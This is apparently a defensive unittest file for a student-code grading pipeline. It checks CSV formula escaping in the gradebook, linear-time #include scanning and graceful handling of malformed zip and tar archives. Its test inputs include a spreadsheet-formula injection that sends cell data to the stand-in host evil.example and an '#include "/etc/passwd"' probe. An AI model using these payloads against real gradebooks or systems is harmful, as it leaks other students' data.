"""What a student controls in run.py grade's inputs must not act on the
instructor's tools: a submission named like a spreadsheet formula lands in
gradebook.csv as text, and the #include note scans a file of blank lines in
linear time. (Found by an attack review of the grading pipeline.)"""
import os
import sys
import tarfile
import tempfile
import time
import unittest
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "grader" / "py"))

from bwlab import gradebook, submission  # noqa: E402
from bwlab.grade_batch import build_submission, include_notes  # noqa: E402


class InertOutputs(unittest.TestCase):
    def test_formula_names_are_text_in_the_gradebook(self):
        # Catches a raw id cell: =HYPERLINK(...&B3&C3) sends other cells away.
        for name in ('=HYPERLINK("https://evil.example/?"&B3,"see")', "+1+1", "-2+3", "@SUM(1,1)"):
            with self.subTest(name=name):
                row = gradebook.csv_row({"id": name, "exercises": [], "total": 0}, [])
                self.assertEqual(row[0], "'" + name)
        self.assertEqual(gradebook.csv_row({"id": "alice", "exercises": [], "total": 0}, [])[0], "alice")

    def test_the_include_scan_is_linear(self):
        # \s* under re.M crossed line ends: 80,000 blank lines took 5.3 s.
        t0 = time.monotonic()
        self.assertEqual(include_notes({"haxpy": b"\n" * 200_000}), [])
        self.assertLess(time.monotonic() - t0, 1.0)
        self.assertEqual(include_notes({"haxpy": b'  #  include "/etc/passwd"\n'}),
                         ['haxpy: suspicious #include "/etc/passwd"'])


class _Runner:
    def load(self, path):
        return submission.load(path, ["haxpy"])


class _Opts:
    build_timeout = 10


class UnreadableArchives(unittest.TestCase):
    """One student's archive must end as that submission's problem, never
    as an exception that stops the batch (the lanes' handler then stops
    everyone) or a message no record can be written with."""

    def setUp(self):
        tmp = tempfile.TemporaryDirectory()
        self.addCleanup(tmp.cleanup)
        self.tmp = Path(tmp.name)

    def problems(self, path: Path) -> list[str]:
        sub, _built, probs = build_submission(_Runner(), "s", path, _Opts())
        self.assertIsNone(sub)
        for p in probs:
            p.encode("utf-8")   # a surrogate here made the record's write raise
        return probs

    def test_a_compression_python_cannot_read(self):
        # Method 98 (PPMd), as some zip tools write: zipfile raises
        # NotImplementedError, not BadZipFile.
        z = self.tmp / "ppmd.zip"
        with zipfile.ZipFile(z, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr("exercises/haxpy/haxpy.cu", "void f() {}\n")
        data = bytearray(z.read_bytes())
        data[8:10] = (98).to_bytes(2, "little")                       # the local header
        cd = data.find(b"PK\x01\x02")
        data[cd + 10:cd + 12] = (98).to_bytes(2, "little")             # the central directory
        z.write_bytes(bytes(data))
        probs = self.problems(z)
        self.assertEqual(len(probs), 1)
        self.assertIn("could not be read", probs[0])

    def test_an_undecodable_member_name(self):
        t = self.tmp / "odd.tar"
        with tarfile.open(t, "w", encoding="utf-8", errors="surrogateescape") as tf:
            ti = tarfile.TarInfo(os.fsdecode(b"exercises/haxpy/\xff.cu"))
            ti.type, ti.linkname = tarfile.SYMTYPE, "x"
            tf.addfile(ti)
        probs = self.problems(t)
        self.assertIn("is a link", probs[0])
        self.assertIn("\\udcff", probs[0])


if __name__ == "__main__":
    unittest.main()
